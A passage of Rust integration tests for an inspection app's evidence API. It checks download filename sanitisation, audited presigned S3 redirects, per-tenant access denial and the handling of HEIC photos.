        let inspector = app.token(INSPECTOR).await;
        let reviewer = app.token(REVIEWER).await;
        let id = Uuid::new_v4();
        let pdf = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n";

        let response = put_evidence(
            &app,
            &inspector,
            id,
            "document",
            pdf,
            Some("C:\\Hồ sơ\\Biên bản 1.pdf"),
        )
        .await;

        assert_eq!(response.status(), 201);
        let download = app
            .get(&format!("/api/v1/evidence/{id}/content"), &reviewer)
            .await;
        assert_eq!(
            download.headers()["content-disposition"],
            "attachment; filename=\"Bi_n b_n 1.pdf\"; filename*=UTF-8''Bi%C3%AAn%20b%E1%BA%A3n%201.pdf"
        );
        assert_eq!(download.headers()["content-type"], "application/pdf");
    }
}

mod presigned {
    //! With a public S3 endpoint the API hands out presigned URLs of originals instead of
    //! passing the bytes through, to the same users and with the same audit trail.

    use kiemtra_server::storage::EmbeddedS3;
    use kiemtra_shared::evidence::EvidenceMeta;
    use sha2::Digest;
    use uuid::Uuid;

    use super::put_evidence;
    use crate::both_backends;
    use crate::helpers::{
        Backend, ENTERPRISE, INSPECTOR, REVIEWER, TestApp, jpeg_bytes, spawn_app_with,
    };

    both_backends!(
        an_original_is_a_redirect_to_a_presigned_url_of_the_same_bytes,
        who_may_not_see_the_evidence_gets_a_404_and_no_url,
    );

    /// The app, with its S3 endpoint also configured as the public one under another host name
    /// (`localhost` for `127.0.0.1`), so a URL signed for the internal host would not verify.
    struct Presigning {
        app: TestApp,
        public_endpoint: String,
        _s3: Option<(EmbeddedS3, tempfile::TempDir)>,
    }

    async fn spawn_presigning(backend: Backend) -> Presigning {
        // Under KIEMTRA_TEST_S3_ENDPOINT (moto) the helper configures that endpoint; otherwise an
        // embedded endpoint is started here, so its address is known before the app starts.
        let (endpoint, s3) = match std::env::var("KIEMTRA_TEST_S3_ENDPOINT") {
            Ok(endpoint) => (endpoint, None),
            Err(_) => {
                let dir = tempfile::tempdir().unwrap();
                let s3 = kiemtra_server::storage::embedded::start(
                    dir.path(),
                    "KTPRESIGNTEST",
                    "presign-test-secret",
                )
                .await
                .unwrap();
                (s3.endpoint.clone(), Some((s3, dir)))
            }
        };
        let public_endpoint = endpoint.replace("127.0.0.1", "localhost");
        let public = public_endpoint.clone();
        let app = spawn_app_with(backend, move |s| {
            if s.storage.endpoint.is_none() {
                s.storage.endpoint = Some(endpoint);
                s.storage.access_key = Some("KTPRESIGNTEST".to_owned());
                s.storage.secret_key = Some("presign-test-secret".to_owned().into());
            }
            s.storage.public_endpoint = Some(public);
            s.storage.presign_ttl_secs = 60;
        })
        .await;
        Presigning {
            app,
            public_endpoint,
            _s3: s3,
        }
    }

    /// How many times handing out the original of `id` was recorded.
    async fn downloads_recorded(app: &TestApp, id: Uuid) -> u64 {
        use kiemtra_server::entities::audit_event;
        use sea_orm::{ColumnTrait, EntityTrait, PaginatorTrait, QueryFilter};
        audit_event::Entity::find()
            .filter(audit_event::Column::Action.eq("evidence.downloaded"))
            .filter(audit_event::Column::EntityId.eq(id.to_string()))
            .count(&app.db)
            .await
            .unwrap()
    }

    async fn last_audit_action(app: &TestApp) -> (String, String) {
        use sea_orm::{EntityTrait, QueryOrder};
        let last = kiemtra_server::entities::audit_event::Entity::find()
            .order_by_desc(kiemtra_server::entities::audit_event::Column::Seq)
            .one(&app.db)
            .await
            .unwrap()
            .unwrap();
        (last.action, last.entity_id)
    }

    async fn an_original_is_a_redirect_to_a_presigned_url_of_the_same_bytes(backend: Backend) {
        let Presigning {
            app,
            public_endpoint,
            _s3,
        } = spawn_presigning(backend).await;
        let inspector = app.token(INSPECTOR).await;
        let reviewer = app.token(REVIEWER).await;
        let id = Uuid::new_v4();
        let mut document = b"%PDF-1.7\n".to_vec();
        document.extend((0..300_000u32).map(|i| (i.wrapping_mul(2_654_435_761) >> 24) as u8));
        let uploaded = put_evidence(
            &app,
            &inspector,
            id,
            "document",
            &document,
            Some("Biên bản 2.pdf"),
        )
        .await;
        assert_eq!(uploaded.status(), 201);
        let meta: EvidenceMeta = uploaded.json().await.unwrap();

        let response = app
            .get(&format!("/api/v1/evidence/{id}/content"), &reviewer)
            .await;

        assert_eq!(response.status(), 307);
        assert_eq!(response.headers()["cache-control"], "no-store");
        let location = response.headers()["location"].to_str().unwrap().to_owned();
        assert!(
            location.starts_with(&format!("{public_endpoint}/")),
            "signed for the public endpoint: {location}"
        );
        assert!(location.contains("X-Amz-Signature="), "{location}");
        assert!(
            location.contains("response-content-disposition=attachment"),
            "{location}"
        );
        assert_eq!(
            last_audit_action(&app).await,
            ("evidence.downloaded".to_owned(), id.to_string()),
            "handing out the URL is handing out the original"
        );
        assert_eq!(downloads_recorded(&app, id).await, 1);
        let fetched = reqwest::get(&location).await.unwrap();
        assert_eq!(fetched.status(), 200, "{location}");
        let bytes = fetched.bytes().await.unwrap();
        assert!(bytes.as_ref() == document.as_slice(), "byte-identical");
        assert_eq!(hex::encode(sha2::Sha256::digest(&bytes)), meta.sha256);
    }

    async fn who_may_not_see_the_evidence_gets_a_404_and_no_url(backend: Backend) {
        let Presigning { app, _s3, .. } = spawn_presigning(backend).await;
        let inspector = app.token(INSPECTOR).await;
        let id = Uuid::new_v4();
        let uploaded = put_evidence(&app, &inspector, id, "photo", &jpeg_bytes(31), None).await;
        assert_eq!(uploaded.status(), 201);

        // The enterprise does not see the team's site evidence...
        let enterprise = app.token(ENTERPRISE).await;
        let own_enterprise = app
            .get(&format!("/api/v1/evidence/{id}/content"), &enterprise)
            .await;
        // ...nor, once moved to another enterprise, anything of this inspection.
        app.move_to_other_enterprise(ENTERPRISE).await;
        let other_tenant = app.token(ENTERPRISE).await;
        let other_enterprise = app
            .get(&format!("/api/v1/evidence/{id}/content"), &other_tenant)
            .await;

        for response in [own_enterprise, other_enterprise] {
            assert_eq!(response.status(), 404);
            assert!(response.headers().get("location").is_none());
            let body = response.text().await.unwrap();
            assert!(!body.contains("X-Amz"), "no URL in the body: {body}");
        }
        assert_eq!(
            downloads_recorded(&app, id).await,
            0,
            "nothing handed out, nothing recorded"
        );
    }
}

mod heic {
    //! HEIC photos (iPhones' default) are accepted and kept as they are; this server has no
    //! HEIC decoder, so they get no thumbnail or preview, and say why at once.

    use kiemtra_shared::evidence::{DerivativeState, EvidenceMeta};
    use uuid::Uuid;

    use super::put_evidence;
    use crate::both_backends;
    use crate::helpers::{Backend, INSPECTOR, REVIEWER, spawn_app};

    both_backends!(a_heic_photo_is_kept_and_its_derivatives_fail_with_the_reason);

    /// 64×48, made with Debian's `heif-enc -q 40` (libheif 1.15, x265) from a PNG gradient.
    const TINY_HEIC: &[u8] = include_bytes!("../fixtures/tiny-64x48.heic");

    async fn a_heic_photo_is_kept_and_its_derivatives_fail_with_the_reason(backend: Backend) {
        let app = spawn_app(backend).await;
        let inspector = app.token(INSPECTOR).await;
        let reviewer = app.token(REVIEWER).await;
        let id = Uuid::new_v4();

        let response = put_evidence(&app, &inspector, id, "photo", TINY_HEIC, None).await;

        assert_eq!(response.status(), 201);
        let meta: EvidenceMeta = response.json().await.unwrap();
        assert_eq!(meta.content_type, "image/heic");
        assert_eq!(
            meta.derivatives,
            DerivativeState::Failed(
                "no HEIC decoder on this server; the original is kept".to_owned()
            ),
            "never pending"
        );
        let thumbnail = app
            .get(&format!("/api/v1/evidence/{id}/thumbnail"), &reviewer)
            .await;
        assert_eq!(thumbnail.status(), 404);
        let original = app
            .get(&format!("/api/v1/evidence/{id}/content"), &reviewer)
            .await;
        assert_eq!(original.status(), 200);
        assert_eq!(original.headers()["content-type"], "image/heic");
        assert_eq!(original.bytes().await.unwrap().as_ref(), TINY_HEIC);
    }
}
